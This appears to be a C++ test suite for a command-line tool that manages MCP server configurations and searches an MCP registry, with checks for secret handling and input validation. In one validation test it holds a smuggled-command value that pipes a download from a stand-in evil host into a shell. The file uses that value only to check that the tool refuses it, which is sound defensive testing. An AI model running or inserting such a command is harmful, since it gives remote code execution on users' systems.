// `switchboard add/add-json/remove/get` typed as Claude Code's docs type `claude mcp ...`, and `switchboard registry`
// against a local MCP Registry (tests/peers/scripts/mcp_registry.py serving real server.json documents): search →
// add → status connected, for an npm server (npx, offline, from the peers' node_modules) and a remote one; every bad
// input refused with its cause and nothing written.
#include "harness.hpp"
#include "net_harness.hpp"

#include <boost/json/parse.hpp>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <sys/stat.h>

namespace switchboard::test {
namespace {

namespace json = boost::json;
namespace fs = std::filesystem;

std::string read_text(const fs::path& p) {
    std::ifstream in(p, std::ios::binary);
    std::ostringstream s;
    s << in.rdbuf();
    return s.str();
}

std::string quoted(const std::string& s) { return "'" + s + "'"; }

class CliAdd : public ::testing::Test {
protected:
    void SetUp() override {
        dir_ = fs::temp_directory_path() / ("switchboard-add-" + std::to_string(::getpid()) + "-" +
                                            ::testing::UnitTest::GetInstance()->current_test_info()->name());
        fs::remove_all(dir_);
        fs::create_directories(dir_ / "home");
    }
    void TearDown() override { fs::remove_all(dir_); }

    // `line` run in `cwd` (default: the test's directory) with a home and XDG directories of the test's own.
    int sh(const std::string& line, std::string& out, const fs::path& cwd = {}) {
        const auto home = (dir_ / "home").string();
        return run_command("cd " + quoted((cwd.empty() ? dir_ : cwd).string()) + " && HOME=" + home +
                               " XDG_CONFIG_HOME=" + home + "/.config XDG_CACHE_HOME=" + home +
                               "/.cache XDG_STATE_HOME=" + home + "/.local/state " + line + " 2>&1",
                           out);
    }
    // A `claude mcp ...` line of Claude Code's docs, run as `switchboard ...`.
    int claude(const std::string& docs_line, std::string& out) {
        const std::string prefix = "claude mcp ";
        EXPECT_EQ(docs_line.rfind(prefix, 0), 0u) << docs_line;
        return sh(std::string(SWITCHBOARD_CLI) + " " + docs_line.substr(prefix.size()), out);
    }
    json::object servers_of(const fs::path& file) {
        json::parse_options o;
        o.allow_comments = true;
        return json::parse(read_text(file), {}, o).at("mcpServers").as_object();
    }

    fs::path dir_;
};

TEST_F(CliAdd, ClaudeCodeDocsLinesAsTyped) {
    const auto user = dir_ / "home/.config/switchboard/settings.json";
    std::string out;
    // No config yet: the first add creates the user settings file, which every command then finds.
    ASSERT_EQ(claude("claude mcp add --transport http notion https://mcp.notion.com/mcp", out), 0) << out;
    EXPECT_NE(out.find("Added http server \"notion\" to " + user.string()), std::string::npos) << out;
    ASSERT_EQ(claude(R"(claude mcp add --transport http secure-api https://api.example.com/mcp \
  --header "Authorization: Bearer your-token")",
                     out),
              0)
        << out;
    ASSERT_EQ(claude("claude mcp add --transport sse asana https://mcp.asana.com/sse", out), 0) << out;
    ASSERT_EQ(claude(R"(claude mcp add --transport sse private-api https://api.company.com/sse \
  --header "X-API-Key: your-key-here")",
                     out),
              0)
        << out;
    ASSERT_EQ(claude(R"(claude mcp add --transport stdio --env AIRTABLE_API_KEY=YOUR_KEY airtable \
  -- npx -y airtable-mcp-server)",
                     out),
              0)
        << out;
    EXPECT_NE(out.find("(confined): npx -y airtable-mcp-server"), std::string::npos) << out;
    ASSERT_EQ(claude(R"(claude mcp add --transport stdio db -- npx -y @bytebase/dbhub \
  --dsn "postgresql://readonly:pass@prod.db.com:5432/analytics")",
                     out),
              0)
        << out;
    ASSERT_EQ(claude("claude mcp add --transport stdio myserver -- npx server", out), 0) << out;
    // The docs' next line reuses the name: refused, the entry as it was.
    EXPECT_EQ(claude("claude mcp add --transport stdio --env KEY=value myserver -- python server.py --port 8080", out),
              1);
    EXPECT_NE(out.find("a server named \"myserver\" already exists (remove it first: switchboard remove myserver)"),
              std::string::npos)
        << out;
    ASSERT_EQ(claude("claude mcp add -e API_KEY=xxx my-server -- npx my-mcp-server", out), 0) << out;
    ASSERT_EQ(
        claude(
            R"(claude mcp add-json weather-api '{"type":"http","url":"https://api.weather.com/mcp","headers":{"Authorization":"Bearer token"}}')",
            out),
        0)
        << out;
    ASSERT_EQ(
        claude(
            R"(claude mcp add-json local-weather '{"type":"stdio","command":"/path/to/weather-cli","args":["--api-key","abc123"],"env":{"CACHE_DIR":"/tmp"}}')",
            out),
        0)
        << out;

    auto s = servers_of(user);
    EXPECT_EQ(json::serialize(s.at("notion")), R"({"type":"http","url":"https://mcp.notion.com/mcp"})");
    EXPECT_EQ(json::serialize(s.at("secure-api")),
              R"({"type":"http","url":"https://api.example.com/mcp","headers":{"Authorization":"Bearer your-token"}})");
    EXPECT_EQ(json::serialize(s.at("asana")), R"({"type":"sse","url":"https://mcp.asana.com/sse"})");
    EXPECT_EQ(s.at("private-api").at("headers").at("X-API-Key").as_string(), "your-key-here");
    EXPECT_EQ(json::serialize(s.at("airtable")),
              R"({"command":"npx","args":["-y","airtable-mcp-server"],"env":{"AIRTABLE_API_KEY":"YOUR_KEY"},)"
              R"("sandboxEnabled":true})");
    EXPECT_EQ(json::serialize(s.at("db").at("args")),
              R"(["-y","@bytebase/dbhub","--dsn","postgresql://readonly:pass@prod.db.com:5432/analytics"])");
    EXPECT_EQ(json::serialize(s.at("myserver")), R"({"command":"npx","args":["server"],"sandboxEnabled":true})");
    EXPECT_EQ(json::serialize(s.at("my-server").at("env")), R"({"API_KEY":"xxx"})");
    // add-json writes the entry as given: one written by hand keeps its own confinement setting.
    EXPECT_EQ(json::serialize(s.at("local-weather")),
              R"({"type":"stdio","command":"/path/to/weather-cli","args":["--api-key","abc123"],)"
              R"("env":{"CACHE_DIR":"/tmp"}})");

    // Scopes: project (and local) is ./.mcp.json, user the settings file.
    ASSERT_EQ(claude("claude mcp add --transport http paypal --scope project https://mcp.paypal.com/mcp", out), 0)
        << out;
    ASSERT_EQ(claude("claude mcp add --transport http hubspot --scope user https://mcp.hubspot.com/anthropic", out), 0)
        << out;
    EXPECT_TRUE(servers_of(dir_ / ".mcp.json").contains("paypal"));
    EXPECT_TRUE(servers_of(user).contains("hubspot"));
    // With ./.mcp.json here, it is what `get` reads, as every command would.
    EXPECT_EQ(claude("claude mcp get paypal", out), 0) << out;
    EXPECT_NE(out.find("url: https://mcp.paypal.com/mcp"), std::string::npos) << out;
    EXPECT_EQ(claude("claude mcp get secure-api", out), 2);
    EXPECT_NE(out.find("no server named \"secure-api\" in " + (dir_ / ".mcp.json").string() + " (it has: paypal)"),
              std::string::npos)
        << out;

    // get: secrets masked; remove: gone, the others kept.
    ASSERT_EQ(sh(std::string(SWITCHBOARD_CLI) + " get secure-api --scope user --json", out), 0) << out;
    EXPECT_NE(out.find(R"("Authorization":"Bearer ••••")"), std::string::npos) << out;
    EXPECT_EQ(out.find("your-token"), std::string::npos) << out;
    ASSERT_EQ(claude("claude mcp remove asana --scope user", out), 0) << out;
    s = servers_of(user);
    EXPECT_FALSE(s.contains("asana"));
    EXPECT_TRUE(s.contains("notion"));
    EXPECT_EQ(claude("claude mcp remove asana --scope user", out), 2);
    EXPECT_NE(out.find("no server named \"asana\""), std::string::npos) << out;
}

TEST_F(CliAdd, OAuthFlagsKeepTheClientSecretOutOfTheConfig) {
    std::string out;
    const auto cfg = (dir_ / "c.json").string();
    ASSERT_EQ(sh("MCP_CLIENT_SECRET=your-secret " + std::string(SWITCHBOARD_CLI) + " -c " + cfg +
                     R"( add --transport http \
  --client-id your-client-id --client-secret --callback-port 8080 \
  my-server https://mcp.example.com/mcp)",
                 out),
              0)
        << out;
    ASSERT_EQ(sh(std::string(SWITCHBOARD_CLI) + " -c " + cfg + R"( add-json my-server2 \
  '{"type":"http","url":"https://mcp.example.com/mcp","oauth":{"callbackPort":8080}}')",
                 out),
              0)
        << out;
    const auto s = servers_of(cfg);
    EXPECT_EQ(json::serialize(s.at("my-server").at("oauth")),
              R"({"clientId":"your-client-id","redirectPort":8080,"clientSecret":"${MY_SERVER_CLIENT_SECRET}"})");
    EXPECT_EQ(read_text(cfg).find("your-secret"), std::string::npos);
    const auto env = dir_ / "c.env";
    EXPECT_NE(read_text(env).find("MY_SERVER_CLIENT_SECRET=your-secret\n"), std::string::npos);
    struct ::stat st {};
    ASSERT_EQ(::stat(env.c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u);
    // Claude Code's callbackPort is read as the redirect port: no warning about an unknown key.
    ASSERT_EQ(sh(std::string(SWITCHBOARD_CLI) + " -c " + cfg + " get my-server2", out), 0) << out;
    EXPECT_EQ(out.find("warning"), std::string::npos) << out;
}

TEST_F(CliAdd, RefusedEditsWriteNothingAndAnAddKeepsComments) {
    const auto cfg = dir_ / "c.json";
    const std::string text = "// my servers\n{\n  \"mcpServers\": {\n    // the demo\n    \"demo\": {\"command\": \"" +
                             demo_server() + "\"}\n  }\n}\n";
    std::ofstream(cfg) << text;
    const auto sb = std::string(SWITCHBOARD_CLI) + " -c " + cfg.string() + " ";
    std::string out;
    struct Case {
        std::string args, error;
    };
    for (const auto& c : std::vector<Case>{
             {"add demo -- x", "a server named \"demo\" already exists"},
             {"add -e A=1 B=2 x -- y", "\"B=2\" cannot be a server name"},
             {"add bad__name -- y", "cannot be a server name"},
             {"add x -e NOEQUALS -- y", "--env takes KEY=VALUE, not \"NOEQUALS\""},
             {"add --transport gopher x https://e.example", "--transport must be stdio, http, sse or ws"},
             {"add --transport http x", "\"x\" needs a URL"},
             {"add --transport http x ftp://e.example", "\"ftp://e.example\" is not a URL"},
             {"add --transport http x https://e.example --header NoColon", "--header takes \"Name: value\""},
             {"add x --header 'A: b' -- cmd", "--header is for http, sse and ws servers"},
             {"add-json x '{\"command\": 3}'", "\"command\" must be a string"},
             {"add-json x '{not json'", "the JSON given"},
             {"add --scope galaxy x -- y", "--scope must be local, project or user"},
         }) {
        EXPECT_NE(sh(sb + c.args, out), 0) << c.args << "\n" << out;
        EXPECT_NE(out.find(c.error), std::string::npos) << c.args << "\n" << out;
        EXPECT_EQ(read_text(cfg), text) << c.args;
    }
    ASSERT_EQ(sh(sb + "add second -- " + demo_server() + " --legacy-only", out), 0) << out;
    const auto after = read_text(cfg);
    EXPECT_NE(after.find("// my servers"), std::string::npos) << after;
    EXPECT_NE(after.find("// the demo"), std::string::npos) << after;
    // And it runs: confined by default, connected.
    ASSERT_EQ(sh(sb + "status --json", out), 0) << out;
    const auto v = json::parse(out.substr(out.find("{\"servers\"")));
    const auto& second = v.at("servers").as_array()[1].as_object();
    EXPECT_EQ(second.at("name").as_string(), "second");
    EXPECT_EQ(second.at("phase").as_string(), "connected");
    EXPECT_NE(second.at("sandbox").at("layer").as_string(), "unconfined");
    // --no-sandbox: written so.
    ASSERT_EQ(sh(sb + "add --no-sandbox third -- " + demo_server(), out), 0) << out;
    EXPECT_NE(out.find("(not confined)"), std::string::npos) << out;
    EXPECT_EQ(servers_of(cfg).at("third").at("sandboxEnabled").as_bool(), false);
}

TEST_F(CliAdd, ARunningServePicksUpAnAddAndARemove) {
    const auto cfg = dir_ / "c.json";
    std::ofstream(cfg) << R"({"mcpServers": {"demo": {"command": ")" << demo_server() << R"("}}})";
    auto serve = start_listening(SWITCHBOARD_CLI, {"-c", cfg.string(), "serve", "--port", "0", "--quiet"});
    ASSERT_TRUE(serve);
    const auto base = serve->url.substr(0, serve->url.rfind("/mcp"));
    std::string out;
    const auto servers_now = [&] {
        run_command("python3 -c \"import urllib.request,sys; sys.stdout.write(urllib.request.urlopen('" + base +
                        "/api/servers').read().decode())\"",
                    out);
        return out;
    };
    ASSERT_EQ(sh(std::string(SWITCHBOARD_CLI) + " -c " + cfg.string() + " add later -- " + demo_server(), out), 0)
        << out;
    bool seen = false;
    for (int i = 0; i < 100 && !seen; ++i) {
        seen = servers_now().find(R"("name":"later","transport":"stdio","phase":"connected")") != std::string::npos;
        if (!seen) std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    EXPECT_TRUE(seen) << out << serve->log();
    ASSERT_EQ(sh(std::string(SWITCHBOARD_CLI) + " -c " + cfg.string() + " remove later", out), 0) << out;
    bool gone = false;
    for (int i = 0; i < 100 && !gone; ++i) {
        gone =
            servers_now().find(R"("name":"later")") == std::string::npos && out.find("\"demo\"") != std::string::npos;
        if (!gone) std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    EXPECT_TRUE(gone) << out;
}

// ---- the registry ----------------------------------------------------------------------------------------------

class CliRegistry : public CliAdd {
protected:
    std::unique_ptr<ListeningServer> start_registry(std::vector<std::string> extra = {}) {
        std::vector<std::string> args{std::string(PEERS_DIR) + "/scripts/mcp_registry.py", "--documents",
                                      std::string(PEERS_DIR) + "/registry", "--tarball",
                                      std::string(PEERS_DIR) + "/package.json"};
        args.insert(args.end(), extra.begin(), extra.end());
        return start_listening("/usr/bin/python3", args);
    }
    // `switchboard -c CONFIG ARGS` against `registry`, run in the peers' directory (npx finds server-everything in
    // its node_modules) and offline.
    int sb(const ListeningServer& registry, const std::string& args, std::string& out) {
        return sh("SWITCHBOARD_REGISTRY=" + registry.url + " npm_config_offline=true " + SWITCHBOARD_CLI + " -c " +
                      config().string() + " " + args + " </dev/null",
                  out, PEERS_DIR);
    }
    fs::path config() const { return dir_ / "c.json"; }
    int served(const ListeningServer& registry) {
        std::string out;
        run_command("python3 -c \"import urllib.request,sys; sys.stdout.write(urllib.request.urlopen('" + registry.url +
                        "/_stats').read().decode())\"",
                    out);
        return static_cast<int>(json::parse(out).at("served").as_int64());
    }
};

TEST_F(CliRegistry, SearchThenAddThenStatusShowsTheServersConnected) {
    auto demo = start_listening(demo_server(), {"--http", "0"});
    ASSERT_TRUE(demo);
    auto registry = start_registry({"--remote-url", demo->url});
    ASSERT_TRUE(registry);
    std::string out;
    ASSERT_EQ(sb(*registry, "registry search everything", out), 0) << out;
    EXPECT_NE(out.find("io.github.modelcontextprotocol/server-everything  2026.8.31   npm"), std::string::npos) << out;
    ASSERT_EQ(sb(*registry, "registry search --json time", out), 0) << out;
    const auto found = json::parse(out).at("servers").as_array();
    ASSERT_EQ(found.size(), 2u) << out;
    EXPECT_EQ(found[0].at("kinds").as_string(), "nuget");
    EXPECT_EQ(found[1].at("kinds").as_string(), "pypi");

    ASSERT_EQ(sb(*registry, "registry add io.github.modelcontextprotocol/server-everything --yes", out), 0) << out;
    EXPECT_NE(
        out.find("Will add \"server-everything\" to " + config().string() +
                 ":\n  npx -y @modelcontextprotocol/server-everything@2026.8.31 stdio\n  confined (sandboxEnabled)"),
        std::string::npos)
        << out;
    ASSERT_EQ(sb(*registry, "registry add com.todoist/mcp --as todoist --yes", out), 0) << out;
    EXPECT_NE(out.find("  http " + demo->url), std::string::npos) << out;

    ASSERT_EQ(sb(*registry, "status --json", out), 0) << out;
    const auto v = json::parse(out.substr(out.find("{\"servers\"")));
    const auto& list = v.at("servers").as_array();
    ASSERT_EQ(list.size(), 2u) << out;
    EXPECT_EQ(list[0].at("name").as_string(), "server-everything");
    EXPECT_EQ(list[0].at("phase").as_string(), "connected") << out;
    EXPECT_GT(list[0].at("tools").as_int64(), 5);
    EXPECT_EQ(list[1].at("name").as_string(), "todoist");
    EXPECT_EQ(list[1].at("phase").as_string(), "connected") << out;
}

TEST_F(CliRegistry, ShowListsWhatEachWayToRunNeedsAndAnswersAreCached) {
    auto registry = start_registry();
    ASSERT_TRUE(registry);
    std::string out;
    ASSERT_EQ(sb(*registry, "registry show io.github.domdomegg/airtable-mcp-server", out), 0) << out;
    EXPECT_NE(out.find("    npm  airtable-mcp-server@1.7.2 (stdio)\n      environment variable AIRTABLE_API_KEY "
                       "(required, secret): Airtable personal access token"),
              std::string::npos)
        << out;
    EXPECT_NE(out.find("    mcpb  https://github.com/domdomegg/airtable-mcp-server/releases/download/v1.7.2/"
                       "airtable-mcp-server.mcpb (stdio)\n      cannot be added:"),
              std::string::npos)
        << out;
    const int before = served(*registry);
    ASSERT_EQ(sb(*registry, "registry show io.github.domdomegg/airtable-mcp-server --json", out), 0) << out;
    EXPECT_EQ(json::parse(out).at("server").at("name").as_string(), "io.github.domdomegg/airtable-mcp-server");
    EXPECT_EQ(served(*registry), before);  // from the cache
}

TEST_F(CliRegistry, SecretsGoToAPrivateEnvFileAsReferences) {
    auto registry = start_registry();
    ASSERT_TRUE(registry);
    std::string out;
    ASSERT_EQ(sb(*registry,
                 "registry add io.github.domdomegg/airtable-mcp-server -e AIRTABLE_API_KEY=pat123.secret --yes", out),
              0)
        << out;
    EXPECT_EQ(out.find("pat123.secret"), std::string::npos) << out;
    const auto entry = servers_of(config()).at("airtable-mcp-server");
    EXPECT_EQ(json::serialize(entry),
              R"({"command":"npx","args":["-y","airtable-mcp-server@1.7.2"],)"
              R"("env":{"AIRTABLE_API_KEY":"${AIRTABLE_MCP_SERVER_AIRTABLE_API_KEY}"},"sandboxEnabled":true})");
    EXPECT_EQ(read_text(config()).find("pat123"), std::string::npos);
    const auto env = dir_ / "c.env";
    EXPECT_NE(read_text(env).find("AIRTABLE_MCP_SERVER_AIRTABLE_API_KEY=pat123.secret\n"), std::string::npos);
    struct ::stat st {};
    ASSERT_EQ(::stat(env.c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0600u);
    // The OCI package of the same server: the variable passed into the container by name.
    ASSERT_EQ(sb(*registry,
                 "registry add io.github.domdomegg/airtable-mcp-server --use oci --as airtable-oci "
                 "-e AIRTABLE_API_KEY=pat456 --yes",
                 out),
              0)
        << out;
    EXPECT_NE(out.find("AIRTABLE_API_KEY='${AIRTABLE_OCI_AIRTABLE_API_KEY}' docker run -i --rm -e AIRTABLE_API_KEY "
                       "docker.io/domdomegg/airtable-mcp-server:1.7.2\n  runs in its container"),
              std::string::npos)
        << out;
    // A document that spells `run -i --rm IMAGE` itself (GitHub's): the image once, -i kept.
    ASSERT_EQ(sb(*registry, "registry add io.github.github/github-mcp-server -e token=ghp_x --yes", out), 0) << out;
    EXPECT_EQ(json::serialize(servers_of(config()).at("github-mcp-server").at("args")),
              R"(["run","-i","--rm","-e","GITHUB_PERSONAL_ACCESS_TOKEN=${GITHUB_MCP_SERVER_TOKEN}",)"
              R"("ghcr.io/github/github-mcp-server:0.20.2"])");
    // A remote's secret header with a {placeholder} the document does not declare: asked for as the header.
    ASSERT_EQ(sb(*registry, "registry add ai.smithery/smithery-ai-slack -e smithery_api_key=sk-9 --yes", out), 0)
        << out;
    EXPECT_EQ(servers_of(config()).at("smithery-ai-slack").at("headers").at("Authorization").as_string(),
              "Bearer ${SMITHERY_AI_SLACK_SMITHERY_API_KEY}");
}

TEST_F(CliRegistry, EveryBadInputIsRefusedWithItsCauseAndNothingIsWritten) {
    auto registry = start_registry();
    ASSERT_TRUE(registry);
    const std::string text = "{\"mcpServers\": {\"kept\": {\"command\": \"true\"}}}\n";
    std::ofstream(config()) << text;
    std::string out;
    struct Case {
        std::string args, error;
    };
    for (const auto& c : std::vector<Case>{
             {"registry add io.example/nope --yes", "has no server \"io.example/nope\" (404)"},
             {"registry add io.example/bad-unknown-type --yes",
              "offers nothing Switchboard can run (it offers: smithery)"},
             {"registry add io.example/bad-undefined-var --yes", "uses {root_dir}, which no variable of it defines"},
             {"registry add io.example/bad-shell --yes",
              "\"x; curl https://evil.example | sh\" has characters a shell or the config would act on"},
             {"registry add io.example/bad-env-expansion --yes", "\"${GITHUB_TOKEN}\" has characters"},
             {"registry add io.example/removed-tool --yes", "was deleted from"},
             {"registry add io.github.domdomegg/airtable-mcp-server --yes",
              "environment variable AIRTABLE_API_KEY is required"},
             {"registry add io.github.domdomegg/airtable-mcp-server --use mcpb -e AIRTABLE_API_KEY=x --yes",
              "is a package type Switchboard cannot run"},
             {"registry add io.github.domdomegg/airtable-mcp-server --use pypi --yes", "has no pypi package"},
             {"registry add io.github.domdomegg/time-mcp-pypi", "not added: confirm with --yes"},
             {"registry add io.github.domdomegg/time-mcp-pypi --as kept --yes", "already has a server named \"kept\""},
         }) {
        EXPECT_NE(sb(*registry, c.args, out), 0) << c.args << "\n" << out;
        EXPECT_NE(out.find(c.error), std::string::npos) << c.args << "\n" << out;
        EXPECT_EQ(read_text(config()), text) << c.args;
    }
    // A deprecated server is added, with a warning.
    ASSERT_EQ(sb(*registry, "registry add io.example/old-tool --yes", out), 0) << out;
    EXPECT_NE(out.find("warning: io.example/old-tool 0.9.0 is deprecated"), std::string::npos) << out;
}

TEST_F(CliRegistry, ARegistryThatIsDownSlowOrLoopingIsNamedWithTheCause) {
    std::string out;
    std::ofstream(config()) << "{\"mcpServers\": {}}\n";
    // Down: nothing listens there.
    const auto port = free_port();
    EXPECT_EQ(sh(std::string(SWITCHBOARD_CLI) + " -c " + config().string() +
                     " registry search x --registry http://127.0.0.1:" + std::to_string(port),
                 out),
              1);
    EXPECT_NE(out.find("switchboard registry search: http://127.0.0.1:" + std::to_string(port) + ": "),
              std::string::npos)
        << out;
    // Slow: past --timeout.
    auto slow = start_registry({"--slow", "3"});
    ASSERT_TRUE(slow);
    const auto started = std::chrono::steady_clock::now();
    EXPECT_EQ(sb(*slow, "registry search x --timeout 1", out), 1);
    EXPECT_LT(std::chrono::steady_clock::now() - started, std::chrono::milliseconds(2900)) << out;
    EXPECT_NE(out.find(slow->url), std::string::npos) << out;
    // Pages that loop.
    auto looping = start_registry({"--loop"});
    ASSERT_TRUE(looping);
    EXPECT_EQ(sb(*looping, "registry search io --limit 50", out), 1) << out;
    EXPECT_NE(out.find("its pages loop (cursor \"0\" came twice); stopped"), std::string::npos) << out;
}

TEST_F(CliRegistry, APackageFileIsCheckedAgainstItsSha256AndACustomIndexIsNoted) {
    std::string out;
    std::ofstream(config()) << "{\"mcpServers\": {}}\n";
    auto good = start_registry();
    ASSERT_TRUE(good);
    ASSERT_EQ(sb(*good, "registry add io.example/sha-check --yes", out), 0) << out;
    EXPECT_NE(out.find("npx -y --registry=" + good->url + "/npm @example/checked@2.0.0"), std::string::npos) << out;
    EXPECT_NE(out.find("the npm tarball's SHA-256 matches"), std::string::npos) << out;
    EXPECT_NE(out.find("note: @example/checked comes from " + good->url +
                       "/npm, not the standard npm index (https://registry.npmjs.org)"),
              std::string::npos)
        << out;
    auto bad = start_registry({"--wrong-sha"});
    ASSERT_TRUE(bad);
    const auto before = read_text(config());
    EXPECT_EQ(sb(*bad, "registry add io.example/sha-check --as other --yes", out), 1);
    EXPECT_NE(out.find("the package file's SHA-256 is "), std::string::npos) << out;
    EXPECT_NE(out.find("the registry says 0000000000000000000000000000000000000000000000000000000000000000: refused"),
              std::string::npos)
        << out;
    EXPECT_EQ(read_text(config()), before);
}

}  // namespace
}  // namespace switchboard::test
